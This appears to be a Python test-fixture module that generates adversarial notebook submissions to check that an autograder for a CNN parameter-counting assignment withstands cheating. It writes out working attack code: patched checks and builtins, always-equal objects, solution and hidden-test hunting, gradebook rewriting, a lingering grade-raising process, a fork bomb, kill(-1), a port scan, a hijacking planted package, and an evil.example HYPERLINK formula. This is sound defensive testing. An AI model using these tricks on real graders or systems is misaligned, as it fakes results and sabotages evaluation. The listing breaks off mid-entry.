"""Adversarial submissions of ``parameter_counting``: one per attack on the grader (see ../README.md).

``python -m autograder.samples build adversarial`` writes them with this
folder's ``manifest.json``; ``tests/autograder/test_adversarial.py`` grades them in one
batch together with honest submissions and checks the manifest exactly.

``expected`` is what the student honestly earned, not what the attack was
after. So that this is well defined, every attack sits in one answer cell:

- an attack that should end its cell (``os._exit``, ``sys.exit``, killing the
  grader) replaces that cell's answer: its question is lost whatever the
  grader does, and every other question keeps its points;
- an attack on a limit (sleep, output flood, memory) comes *before* the
  correct answer of its cell: a limit that holds stops the cell there, so
  the question is lost and its message names the limit; a grader without
  that limit gives the point away and fails the manifest;
- an attack meant to steal points (patched checks, found solutions, a
  rewritten gradebook) comes with wrong or missing answers, so any point
  above ``expected`` is a stolen one.

``feedback`` gives, per test cell, a substring (or a list of substrings) the
student's message must contain: the limit that was hit, or what was wrong.

The attack code only goes after the grader's own files: a course folder (a
folder holding ``nbgrader_config.py`` and ``source/``), ``gradebook.db`` files
and the assignment sources. It never touches other processes than the
grader's (``nbgrader`` and ``python -m autograder``), never signals a process
group or every process, and its one long-lived process ends by itself.
"""
from __future__ import annotations

import json
import runpy
from pathlib import Path

from autograder.samples import SampleSet

ASSIGNMENT = "parameter_counting"
_HERE = Path(__file__).resolve().parent
_HONEST = runpy.run_path(str(_HERE.parent / ASSIGNMENT / "variants.py"))
POINTS = _HONEST["POINTS"]
samples = SampleSet(ASSIGNMENT, POINTS)
_solution = samples.solution  # the answer cell of the solution, no markers
ANSWERS = ["conv_output_shape", "pool_output_shape", "conv_param_count", "linear_param_count", "S2_C3_WEIGHTS",
           "LENET5_MODERN_PARAMS", "FC_200_PARAMS", "CONV_100_PARAMS", "LOGREG_MNIST_PARAMS", "ALEXNET_CONV1_SHAPE",
           "ALEXNET_CONV1_PARAMS", "ALEXNET_POOL1_SHAPE", "ALEXNET_FC6_PARAMS"]


def _honest(name):
    """The ``cells`` of an honest sample of parameter_counting (its misconception variants)."""
    return dict(_HONEST["VARIANTS"][name]["cells"])


def _edit_cells(edit):
    """raw(): apply ``edit(cells)`` (a list of cell dicts, changed in place or returned) to the notebook."""
    def raw(text):
        nb = json.loads(text)
        cells = edit(nb["cells"])
        if cells is not None:
            nb["cells"] = cells
        return json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n"
    return raw


def _index(cells, grade_id):
    found = [i for i, c in enumerate(cells) if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id]
    if len(found) != 1:
        raise ValueError(f"{grade_id!r} found {len(found)} times")
    return found[0]


def _delete(grade_id):
    return _edit_cells(lambda cells: [c for i, c in enumerate(cells) if i != _index(cells, grade_id)])


def _duplicate_edited(grade_id, source):
    """The cell is kept, and a copy with ``source`` follows it (nbgrader grades the last copy)."""
    def edit(cells):
        i = _index(cells, grade_id)
        copy = json.loads(json.dumps(cells[i]))
        copy["source"], copy["id"] = source, cells[i]["id"] + "-copy"
        return cells[:i + 1] + [copy] + cells[i + 1:]
    return _edit_cells(edit)


def _retype_to_markdown(grade_id):
    def edit(cells):
        cell = cells[_index(cells, grade_id)]
        cell["cell_type"] = "markdown"
        cell.pop("outputs", None), cell.pop("execution_count", None)
    return _edit_cells(edit)


def _rename(grade_id, new_id, source):
    def edit(cells):
        cell = cells[_index(cells, grade_id)]
        cell["metadata"]["nbgrader"]["grade_id"], cell["source"] = new_id, source
    return _edit_cells(edit)


def _points(grade_id, points):
    def edit(cells):
        cells[_index(cells, grade_id)]["metadata"]["nbgrader"]["points"] = points
    return _edit_cells(edit)


def _kernelspec(text):
    nb = json.loads(text)
    nb["metadata"]["kernelspec"] = {"display_name": "Bash", "language": "bash", "name": "bash"}
    nb["metadata"]["language_info"] = {"name": "bash"}
    return json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n"


# --- attack code, as a student would write it into an answer cell -------------

# Places a curious student looks for the grader's files: the folders above the
# notebook, the working folders and command lines of the processes above the
# kernel (the grader's --course and submissions folders) and, for reading only,
# the folders of the installed packages (the repository's assignments/).
# Shared roots (/, /tmp, $HOME) are never searched as a whole: on a shared
# machine that would reach other people's files.
_FIND = '''import glob, os, sys, tempfile

def _ancestors():
    pid, seen = os.getppid(), []
    while pid > 1 and len(seen) < 12:
        seen.append(pid)
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    return seen

def _places(packages=True):
    places, here = [], os.getcwd()
    for _ in range(5):
        places.append(here)
        here = os.path.dirname(here)
    for pid in _ancestors():
        try:
            places.append(os.readlink(f"/proc/{pid}/cwd"))
            places += [a for a in open(f"/proc/{pid}/cmdline").read().split("\\0") if a.startswith("/")]
        except Exception:
            pass
    if packages:
        for name in ("autograder", "cnnlib"):
            try:
                module = __import__(name)
                places.append(os.path.dirname(os.path.dirname(os.path.abspath(module.__file__))))
            except Exception:
                pass
    shared = {"/", "/tmp", "/var/tmp", "/home", "/root", os.path.expanduser("~"), tempfile.gettempdir()}
    places = [os.path.abspath(p) for p in places]
    return [p for p in dict.fromkeys(places) if os.path.isdir(p) and p not in shared]

def _find(pattern, depth=4, packages=True):
    found = []
    for place in _places(packages):
        for level in range(depth + 1):
            found += glob.glob(os.path.join(place, *["*"] * level, pattern))
    return sorted(set(found))
'''

_HUNT = _FIND + '''
import json, sqlite3

def _show(path, source):
    # reversed, so that a check for the hidden lines themselves does not see them
    print("found hidden tests in", path)
    for line in source.split("\\n"):
        print(line.strip()[::-1])

stolen = {}
for path in _find("*.ipynb"):
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        source = "".join(cell["source"])
        grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if "BEGIN SOLUTION" in source and cell["cell_type"] == "code":
            stolen.setdefault(grade_id, "\\n".join(l for l in source.split("\\n") if "SOLUTION" not in l))
        if "BEGIN HIDDEN TESTS" in source:
            _show(path, source)
for path in _find("gradebook.db"):
    try:
        for (source,) in sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("SELECT source FROM source_cell"):
            if "BEGIN HIDDEN TESTS" in (source or ""):
                _show(path, source)
    except Exception:
        pass
print(f"solutions found for {sorted(stolen)}")
for source in stolen.values():
    exec(source, globals())
'''

_WRITE = _FIND + '''
import sqlite3

for path in _find("gradebook.db", packages=False):
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                   "WHERE grade_cells.id = grade.cell_id), extra_credit = 100")
        db.execute("CREATE TABLE IF NOT EXISTS was_here (x)")
        db.commit()
        print("rewrote", path)
    except Exception as error:
        print("could not rewrite", path, error)
for config in _find("nbgrader_config.py", packages=False):
    course = os.path.dirname(config)
    if not os.path.isdir(os.path.join(course, "source")):
        continue                      # only course folders
    targets = [config] + glob.glob(os.path.join(course, "source", "*", "*.ipynb")) + glob.glob(
        os.path.join(course, "release", "*", "*.ipynb"))
    for target in targets:
        try:
            with open(target, "a") as f:
                f.write("\\n")
            print("wrote to", target)
        except Exception as error:
            print("could not write", target, error)
'''

# A grandchild in its own session, with an empty environment (no marks the grader
# could find it by), that outlives the kernel and keeps raising every grade in
# the gradebooks above the notebook for 15 minutes.
_LINGER = '''import os, sys

_code = """
import os, sqlite3, sys, time
end = time.time() + 900
while time.time() < end:
    for path in sys.argv[1:]:
        try:
            db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.2)
            db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                       "WHERE grade_cells.id = grade.cell_id)")
            db.commit()
            db.close()
        except Exception:
            pass
    time.sleep(0.5)
"""
_gradebooks, _here = [], os.getcwd()
for _ in range(4):
    _gradebooks.append(os.path.join(_here, "gradebook.db"))
    _here = os.path.dirname(_here)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", _code, *_gradebooks], {})
    os._exit(0)
os.wait()
'''

_PATCH_CHECKS = '''import cnnlib.checks

def check_equal(*args, **kwargs):
    print("ok")

def check_true(*args, **kwargs):
    print("ok")

def check_close(*args, **kwargs):
    print("ok")

cnnlib.checks.check_equal = check_equal
cnnlib.checks.check_true = check_true
cnnlib.checks.check_equal.__code__ = check_equal.__code__
'''

_PATCH_NUMPY = '''import numpy as np
import numpy.testing

np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
np.testing.assert_equal = lambda *args, **kwargs: None
'''

_PATCH_BUILTINS = '''import builtins

class _Never(Exception):
    pass

builtins.AssertionError = _Never
builtins.bool = lambda *args: True
builtins.callable = lambda *args: True
builtins.abs = lambda *args: 0
'''

_FAKE_PASS = '''print("Running all tests ...")
for name in ["test_conv_output_shape", "test_pool_output_shape", "test_conv_param_count"]:
    print(f"ok: {name}")
print("All tests passed! Score: 18 / 18")
'''


def _wrong_everywhere():
    """Answers that are all wrong (but run): what a patched check would have to wave through."""
    cells = {
        "conv_output_shape": "def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):\n"
                             "    return (1, 1, 1)\n",
        "pool_output_shape": "def pool_output_shape(input_shape, kernel_size, stride):\n    return (1, 1, 1)\n",
        "conv_param_count": "def conv_param_count(in_channels, out_channels, kernel_size, bias=True):\n    return 1\n",
        "linear_param_count": "def linear_param_count(in_features, out_features, bias=True):\n    return 1\n",
        "ALEXNET_CONV1_SHAPE": "ALEXNET_CONV1_SHAPE = (1, 1, 1)\n",
        "ALEXNET_POOL1_SHAPE": "ALEXNET_POOL1_SHAPE = (1, 1, 1)\n",
    }
    for name in ANSWERS:
        cells.setdefault(name, f"{name} = 1\n")
    return cells


def _with(cells, grade_id, prefix):
    """``cells`` with ``prefix`` put in front of answer cell ``grade_id`` (its own answer, or the solution)."""
    cells = dict(cells)
    cells[grade_id] = prefix + "\n" + cells.get(grade_id, _solution(grade_id)) + "\n"
    return cells



# --- attacks on the two-kernel design (issue 19 item 7, issue 24 item 6) ------
#
# Every payload that could harm the machine outside a sandbox (killing, forking,
# filling the disk, scanning the network) first checks that it runs in a PID
# namespace of its own (the kernel's pid is small there) and otherwise stops
# with "NOT ISOLATED" before doing anything; tests/autograder/test_adversarial.py fails on
# that message.
_GUARD = '''import os
if os.getpid() > 10:  # not in a PID namespace of its own: a broken sandbox, so do nothing
    raise SystemExit("NOT ISOLATED: this attack only runs inside the grader's sandbox")
'''

# 1. The caller's frames: in the old design the test's locals (``expected``) were
# a few frames up. Falls back to a wrong count.
_FRAMES = '''import gc, sys

def _steal(*names):
    frame, found = sys._getframe(1), {}
    while frame is not None:
        for name in names:
            if name in frame.f_locals and name not in found:
                found[name] = frame.f_locals[name]
        frame = frame.f_back
    for obj in gc.get_objects():          # any dict in the kernel that holds "expected"
        if isinstance(obj, dict) and "expected" in obj and "expected" not in found:
            found["expected"] = obj["expected"]
    print("found in the caller's frames:", {k: repr(v)[:80] for k, v in found.items()})
    return found.get("expected")

def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    stolen = _steal("expected", "got", "mistakes")
    if isinstance(stolen, int):
        return stolen
    return 0
'''

# 2. Swapping modules in the student's kernel: cnnlib.checks, numpy.testing, the
# old in-kernel guard and the checker's own module names.
_SWAP_MODULES = '''import sys, types
import numpy

def _yes(*args, **kwargs):
    return True

def _none(*args, **kwargs):
    return None

fake_checks = types.ModuleType("cnnlib.checks")
for _name in ("check_equal", "check_true", "check_close", "check_shape", "check_rule"):
    setattr(fake_checks, _name, _none)
fake_checks.CheckFailure = type("CheckFailure", (Exception,), {})
sys.modules["cnnlib.checks"] = fake_checks
import cnnlib
cnnlib.checks = fake_checks

fake_testing = types.ModuleType("numpy.testing")
fake_testing.assert_allclose = fake_testing.assert_array_equal = fake_testing.assert_equal = _none
sys.modules["numpy.testing"] = fake_testing
numpy.allclose = numpy.array_equal = _yes
# the grader's modules by name: the old guard and the checker (as if they lived here)
for _name in ("autograder", "autograder.guard", "autograder.checker", "autograder.kernel_boot", "guard"):
    fake = types.ModuleType(_name)
    fake.check_equal = fake.check_true = fake.verify = fake.before_test = fake.enter_hidden = _none
    fake.TamperingDetected = type("TamperingDetected", (Exception,), {})
    sys.modules[_name] = fake
'''

# 3. A background thread that keeps patching the checks while the tests run.
_THREAD = '''import threading, time
import numpy as np
import cnnlib.checks

def _patch_forever():
    def quiet(*args, **kwargs):
        return None
    end = time.time() + 600
    while time.time() < end:
        for name in ("check_equal", "check_true", "check_close", "check_rule"):
            setattr(cnnlib.checks, name, quiet)
            globals()[name] = quiet
        np.allclose = np.array_equal = lambda *args, **kwargs: True
        time.sleep(0.005)

threading.Thread(target=_patch_forever, daemon=True).start()
'''

# 5. Reading the running test's source (frames, IPython history, In/Out, inspect) and
# sending it out encoded: printed, in an exception's message, in an exception's class
# name, and as the returned "shape" (which the check's message quotes).
_READ_TEST = '''import base64, binascii, inspect, sys, zlib

def _look():
    texts = []
    frame = sys._getframe(1)
    while frame is not None:
        texts.append(f"{frame.f_code.co_filename}:{frame.f_code.co_name}")
        for key, value in list(frame.f_locals.items()):
            texts.append(f"{key}={value!r}"[:4000])
        frame = frame.f_back
    try:
        shell = get_ipython()
        texts += [str(s) for s in list(shell.user_ns.get("In", []))[-3:] + list(shell.user_ns.get("_ih", []))[-3:]]
        texts += [str(v) for v in list(shell.user_ns.get("Out", {}).values())[-3:]]
        texts += [str(row) for row in shell.history_manager.get_tail(3, raw=True, include_latest=True)]
        texts.append(str(shell.user_ns.get("_i", "")))
    except Exception as error:
        texts.append(repr(error))
    for info in inspect.stack():
        texts += info.code_context or []
    return "\\n".join(texts)

def _send_out():
    text = _look().encode()
    print(base64.b64encode(text).decode())
    print(binascii.hexlify(zlib.compress(text)).decode())
    print(text.decode()[::-1])
    return text

def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
    text = _send_out()
    name = base64.b64encode(text[-57:]).decode()
    raise type(name, (Exception,), {})(base64.b64encode(zlib.compress(text)).decode())

def pool_output_shape(input_shape, kernel_size, stride):
    text = _send_out()
    return base64.b64encode(zlib.compress(text)).decode()
'''

# 6. Gigabytes to disk: many files below the per-file limit, in the working copy and in /tmp.
_DISK = _GUARD + '''
_chunk = b"\\0" * (16 << 20)
for _i in range(48):                       # 48 files of 128 MiB: 6 GiB
    for _folder in (".", "/tmp"):
        with open(f"{_folder}/fill-{_i}.bin", "wb") as _f:
            for _ in range(8):
                _f.write(_chunk)
'''

# 7. Hundreds of processes: every child starts one more, then all of them sleep.
_FORK_BOMB = _GUARD + '''import time
_parent, _started = os.getpid(), 0
try:
    for _ in range(500):
        if os.fork() == 0:
            try:
                os.fork()
            except OSError:
                pass
            time.sleep(20)
            os._exit(0)
        _started += 2
finally:
    if os.getpid() == _parent:
        print("started about", _started, "processes")
'''

# 8. Exceptions whose class names are spreadsheet formulas.
_FORMULA = '''def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    name = '=HYPERLINK("https://evil.example/?q="&A1,"click for your grade")'
    raise type(name, (Exception,), {})('=1+1')
'''

# 9. kill(-1, SIGKILL): every process the kernel may signal.
_KILL_ALL = _GUARD + '''import signal, subprocess
_inner = subprocess.Popen(["sleep", "300"])   # a target inside, so kill(-1) finds one
print("sending SIGKILL to every process")
os.kill(-1, signal.SIGKILL)
raise RuntimeError(f"kill(-1) sent inside the sandbox: {_inner.wait()}")
'''

# 10. Values of every exact type whose subclass says "equal" to anything.
_LIARS = '''import numpy as np

class Int(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__

class Float(float):
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def is_integer(self): return True
    __hash__ = float.__hash__

class Str(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__

class Tuple(tuple):
    def __eq__(self, other): return True
    def __iter__(self): return iter((96, 55, 55))
    def __len__(self): return 3
    __hash__ = tuple.__hash__

class List(list):
    def __eq__(self, other): return True
    def __iter__(self): return iter((96, 27, 27))

class Dict(dict):
    def __eq__(self, other): return True
    def __iter__(self): return iter((96, 55, 55))

class Array(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def all(self, *args, **kwargs): return True

class Int64(np.int64):
    def __eq__(self, other): return True

def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
    return Tuple((1, 1, 1))

def pool_output_shape(input_shape, kernel_size, stride):
    return List([1, 1, 1])

def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    return np.array(1).view(Array)

def linear_param_count(in_features, out_features, bias=True):
    return Str("1")
'''

# 11. Registered as numbers.Integral, equal to anything, and taking notes of what
# it is compared with (printed by a later cell).
_INTEGRAL = '''import numbers

class Anything:
    seen = []
    def __eq__(self, other):
        Anything.seen.append(repr(other)[:200])
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
    def __index__(self):
        return 1
    def __int__(self):
        return 1
    def __float__(self):
        return 1.0
    def is_integer(self):
        return True

numbers.Integral.register(Anything)

def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    return Anything()
'''

# 12. Rebinding the builtins, the setup's helpers and imports the tests use.
_REBIND = '''max = min = lambda *args, **kwargs: 0
all = any = lambda *args, **kwargs: True
check_equal = check_true = check_rule = lambda *args, **kwargs: None
np = None
as_shape = lambda value: (96, 55, 55)
is_whole_number = lambda value: True
library_names_used = lambda function, *args: []
'''

# 13. The forbidden library calls, reached in ways that a reading of the source misses.
_FORBIDDEN = {
    "conv_output_shape": '''def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
    import sys
    conv = getattr(__import__("cnnlib." + "conv"), "co" + "nv")
    size = lambda n, k, s, p: getattr(conv, "conv_output_size")(n, k, s, p)
    pair = lambda v: (v, v) if type(v) is int else tuple(v)
    (k_h, k_w), (s_h, s_w), (p_h, p_w) = pair(kernel_size), pair(stride), pair(padding)
    return (out_channels, size(input_shape[1], k_h, s_h, p_h), size(input_shape[2], k_w, s_w, p_w))
''',
    "pool_output_shape": '''def pool_output_shape(input_shape, kernel_size, stride):
    import os, cnnlib
    namespace = {"__name__": "cnnlib.nn_copy", "__package__": "cnnlib"}
    path = os.path.join(os.path.dirname(cnnlib.__file__), "n" + "n.py")
    exec(compile(open(path).read(), path, "exec"), namespace)
    return tuple(namespace["MaxPool2d"](kernel_size, stride=stride).output_shape(input_shape))
''',
    "conv_param_count": '''def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    library = __import__("cnnlib.nn").nn
    layer = getattr(library, "Conv2d")(in_channels, out_channels, kernel_size, bias=bias)
    return getattr(library, "count_" + "parameters")(layer)
''',
    "linear_param_count": '''def linear_param_count(in_features, out_features, bias=True):
    import importlib
    library = importlib.import_module(".".join(["cnnlib", "n" * 2]))
    return library.count_parameters(library.Linear(in_features, out_features, bias=bias))
''',
}

# 14. Oversized output.
_HUGE_MESSAGE = '''def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
    raise ValueError("too big " * (50 * 2**20 // 8))
'''
_HUGE_RETURN = '''import numpy as np

def pool_output_shape(input_shape, kernel_size, stride):
    return np.ones(300 * 2**20 // 8)
'''
_SPY = '''_calls = []

def linear_param_count(in_features, out_features, bias=True):
    print(f"SPY-INPUTS linear_param_count({in_features}, {out_features}, bias={bias})")
    _calls.append((in_features, out_features, bias))
    weights = out_features * in_features
    return weights + (weights if bias else 0)
'''
_HUGE_ANSWER_ERROR = '''raise ValueError("a" * (50 * 2**20))
'''

# 15. Attacks on the codec and the proxies of the two-kernel design.
_WIRE = '''import itertools, time
import numpy as np

def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
    nested = [out_channels]
    for _ in range(100_000):
        nested = [nested]
    return nested

def pool_output_shape(input_shape, kernel_size, stride):
    while True:                 # never returns (sleeps through interrupts)
        try:
            time.sleep(1)
        except KeyboardInterrupt:
            pass

class Prober:
    """Whatever the grader asks of it, it answers with itself."""
    def __getattr__(self, name):
        return self
    def __call__(self, *args, **kwargs):
        return self
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__

def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    return np.array([Prober()], dtype=object)

def linear_param_count(in_features, out_features, bias=True):
    def reach(*args, **kwargs):
        import gc, sys
        found = [m for m in sys.modules if "checker" in m or "autograder" in m]
        return found + [repr(o)[:80] for o in gc.get_objects() if type(o).__name__ in ("StudentKernel", "Session")]
    return reach
'''
_SELF_LIST = '''S2_C3_WEIGHTS = [2400]
S2_C3_WEIGHTS.append(S2_C3_WEIGHTS)
'''
_PROBER_CONSTANT = '''LENET5_MODERN_PARAMS = Prober()
'''
_GENERATOR = '''CONV_100_PARAMS = (n for n in [2500])
'''
_OBJECT_ARRAY = '''import numpy as np
ALEXNET_CONV1_SHAPE = np.array([96, 55, 55], dtype=object)
'''
_WIDE_LIST = '''ALEXNET_POOL1_SHAPE = [96, 27, 27] + [0] * 2_000_000
'''
_EXIT_IN_TEST = '''def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    import os
    os._exit(3)
'''

# The checker kernel's working folder is the notebook's folder, the one the student's
# kernel writes to: a package planted there by the first answer cell (before the checker
# starts) would be imported by the trusted checker in place of the real cnnlib. The
# planted package only loads the real cnnlib and turns its checks into no-ops.
_PLANTED_CNNLIB = """import os, sys
_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["cnnlib"]
import cnnlib
import cnnlib.checks

def _quiet(*args, **kwargs):
    return None

for _name in ("check_equal", "check_true", "check_close", "check_shape", "check_rule"):
    setattr(cnnlib.checks, _name, _quiet)
"""
_PLANT = f'''import os
os.makedirs("cnnlib", exist_ok=True)
with open("cnnlib/__init__.py", "w") as _f:
    _f.write({_PLANTED_CNNLIB!r})
'''

# The network: a port scan of the loopback interface and two hosts outside; an answer
# "downloaded" only if something other than the kernel's own sockets answered (a
# sandbox's network namespace has a loopback of its own, where the kernel listens).
_NETWORK = _GUARD + '''import socket
_own = set()
for _line in open("/proc/net/tcp").read().splitlines()[1:]:
    _fields = _line.split()
    if _fields[3] == "0A":                     # LISTEN: a socket of this namespace
        _own.add(int(_fields[1].split(":")[1], 16))
_reached = []
for _host, _port in [("pypi.org", 443), ("1.1.1.1", 53)] + [("127.0.0.1", p) for p in range(1, 65536) if p not in _own]:
    try:
        _socket = socket.create_connection((_host, _port), timeout=0.5)
    except OSError:
        continue
    # a connection to its own ephemeral port (TCP simultaneous open) reaches nobody
    if _socket.getsockname() != _socket.getpeername():
        _reached.append((_host, _port))
    _socket.close()
print("reached", _reached[:10])
if _reached:
    LOGREG_MNIST_PARAMS = 7850   # "downloaded": 10 classes of 784 weights and a bias
'''

# 16. Killing the grader: the kernel's parent and every nbgrader/autograder process above it.
_KILL_PARENT = _FIND + '''
import signal
for pid in [os.getppid()] + _ancestors():
    try:
        argv = open(f"/proc/{pid}/cmdline").read().split("\\0")
    except Exception:
        continue
    if pid == os.getppid() or argv[1:3] in (["-m", "nbgrader"], ["-m", "autograder"]):
        print("killing", pid, argv[:4])
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception as error:
            print("could not:", error)
'''

_SOLUTION_GONE = {name: "# (answered above)\n" for name in ANSWERS[1:]}
_ANSWERED_ABOVE = "# (answered above)\n"


def _tampered(description, honest, hint, edit, test, *arguments):
    """The honest sample ``honest`` of parameter_counting whose test cell ``test`` was changed by the
    raw() ``edit(test, *arguments)``: its message must name ``hint`` (if any) and the honest mistake."""
    mistake = _HONEST["VARIANTS"][honest]["feedback"][test]
    return samples.variant(description, _honest(honest), {test: [hint, mistake] if hint else mistake},
                           raw=edit(test, *arguments))


def _lose(*cells):
    """``lost`` of samples.variant: the test cells of the answer cells ``cells``, no feedback checked."""
    return dict.fromkeys(f"test_{cell}" for cell in cells)


VARIANTS = {
    # ---------------- honest students in the same batch ----------------
    "reference": samples.reference("the instructor's solution: full marks"),
    "reference_again": samples.reference("the same notebook as reference, graded in the same batch: the same scores"),
    "off_by_one": samples.variant(
        "an honest mistake (output size without the +1): loses that question only",
        _honest("off_by_one"), {"test_conv_output_shape": "the +1 is missing"}),
    "untouched": samples.untouched("the student version as released: zero"),
    # ---------------- the notebook file and its test cells ----------------
    "edited_test": samples.variant(
        "wrong conv_output_shape, and its test cell replaced by a print",
        {**_honest("off_by_one"), "test_conv_output_shape": "print('ok: conv_output_shape')\n"},
        {"test_conv_output_shape": ["changed in the submission", "the +1 is missing"]}),
    "deleted_test": _tampered("wrong pool_output_shape, and its test cell deleted", "pool_divides_by_stride",
                              "deleted", _delete, "test_pool_output_shape"),
    "duplicated_test": _tampered("wrong conv_param_count; its test cell duplicated, the last copy (the graded one) "
                                 "emptied", "bias_forgotten", "appears 2 times",
                                 _duplicate_edited, "test_conv_param_count", "pass\n"),
    "retyped_test": _tampered("wrong linear_param_count; its test cell turned into markdown", "bias_per_weight",
                              "turned into a markdown cell", _retype_to_markdown, "test_linear_param_count"),
    "renamed_test": _tampered("wrong LOGREG_MNIST_PARAMS; its test cell given another grade_id and emptied",
                              "logreg_without_biases", None,
                              _rename, "test_LOGREG_MNIST_PARAMS", "test_LOGREG_MNIST_PARAMS_v2", "pass\n"),
    "inflated_points": samples.variant(
        "correct answers; a test cell's points raised from 3 to 300 in its metadata", {},
        feedback={"test_conv_output_shape": "points were changed to 300"}, raw=_points("test_conv_output_shape", 300)),
    "changed_kernelspec": samples.variant(
        "correct answers in a notebook that asks for a bash kernel", {}, raw=_kernelspec),
    "broken_json": samples.variant(
        "the notebook file cut in the middle (invalid JSON)", lost=dict.fromkeys(POINTS, "not valid JSON"),
        raw=lambda text: text[: len(text) // 2]),
    "empty_file": samples.variant("an empty notebook file", lost=dict.fromkeys(POINTS, "empty"), raw=lambda text: ""),
    # ---------------- the kernel and its processes ----------------
    "os_exit": samples.mistake(
        "the CONV_100_PARAMS cell calls os._exit: only that question is lost",
        "CONV_100_PARAMS", "import os\nos._exit(0)\n", "kernel"),
    "sys_exit": samples.mistake(
        "the LOGREG_MNIST_PARAMS cell calls sys.exit: only that question is lost",
        "LOGREG_MNIST_PARAMS", "import sys\nsys.exit(0)\n", "SystemExit"),
    "kill_parent": samples.mistake(
        "the FC_200_PARAMS cell kills the kernel's parent and every nbgrader/autograder "
        "process above it: only that question is lost, the batch goes on", "FC_200_PARAMS", _KILL_PARENT),
    "lingering_child": samples.variant(
        "the S2_C3_WEIGHTS cell starts a process that outlives the kernel and keeps raising the "
        "grades in the gradebook; that answer is wrong (the sparse table)",
        _with(_honest("sparse_c3_table"), "S2_C3_WEIGHTS", _LINGER), {"test_S2_C3_WEIGHTS": "sparse table"}),
    "output_flood": samples.variant(
        "the ALEXNET_CONV1_SHAPE cell prints 32 MB before its (correct) answer: the output cap "
        "stops the cell, only that question is lost",
        _with({}, "ALEXNET_CONV1_SHAPE", 'for _ in range(32 * 1024):\n    print("flood " * 170)\n'),
        {"test_ALEXNET_CONV1_SHAPE": "output"}),
    "sleep_forever": samples.variant(
        "the ALEXNET_POOL1_SHAPE cell ignores interrupts and sleeps before its (correct) answer: "
        "the cell time limit stops it, only that question is lost",
        _with({}, "ALEXNET_POOL1_SHAPE",
              "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(10**6)\n"),
        {"test_ALEXNET_POOL1_SHAPE": "time limit"}),
    "memory_hog": samples.variant(
        "the ALEXNET_FC6_PARAMS cell fills 3 GiB before its (correct) answer: the memory limit "
        "stops it, only that question is lost",
        _with({}, "ALEXNET_FC6_PARAMS", "import numpy as np\nhog = np.ones(3 * 2**30 // 8)\n"),
        {"test_ALEXNET_FC6_PARAMS": "memory"}),
    # ---------------- making tests pass without the answers ----------------
    "patched_checks": samples.variant(
        "wrong answers everywhere; check_equal/check_true replaced by no-ops (in the notebook and "
        "in cnnlib.checks)", _with(_wrong_everywhere(), "conv_output_shape", _PATCH_CHECKS), dict.fromkeys(POINTS)),
    "patched_numpy": samples.variant(
        "wrong answers everywhere; numpy.allclose, isclose, array_equal and numpy.testing replaced",
        _with(_wrong_everywhere(), "conv_output_shape", _PATCH_NUMPY), dict.fromkeys(POINTS)),
    "patched_builtins": samples.variant(
        "wrong answers everywhere; builtins.AssertionError, bool, callable and abs replaced",
        _with(_wrong_everywhere(), "conv_output_shape", _PATCH_BUILTINS), dict.fromkeys(POINTS)),
    "prints_all_passed": samples.variant(
        "nothing answered; prints 'All tests passed! Score: 18 / 18' instead", {"conv_output_shape": _FAKE_PASS},
        dict.fromkeys(POINTS), feedback={"test_conv_output_shape": "no function named conv_output_shape"},
        untouched=True),
    # ---------------- the grader's files ----------------
    "hunts_solutions": samples.variant(
        "nothing answered; looks for the source notebooks and gradebooks on disk, prints the "
        "hidden tests it finds (each line reversed) and runs the solutions",
        {"conv_output_shape": _HUNT, **_SOLUTION_GONE}, dict.fromkeys(POINTS),
        feedback={"test_conv_output_shape": "no function named conv_output_shape"}),
    "writes_grader_files": samples.variant(
        "nothing answered; rewrites every gradebook it finds (full marks), appends to the course's "
        "config, sources and release", {"conv_output_shape": _WRITE}, dict.fromkeys(POINTS), untouched=True),
    # ---------------- attacks on the two-kernel design (issue 19, issue 24) ----------------
    "reads_caller_frame": samples.mistake(
        "conv_param_count looks for `expected` in its callers' frames and in every dict of the "
        "kernel (gc), and returns what it finds, else 0", "conv_param_count", _FRAMES),
    "swaps_modules": samples.variant(
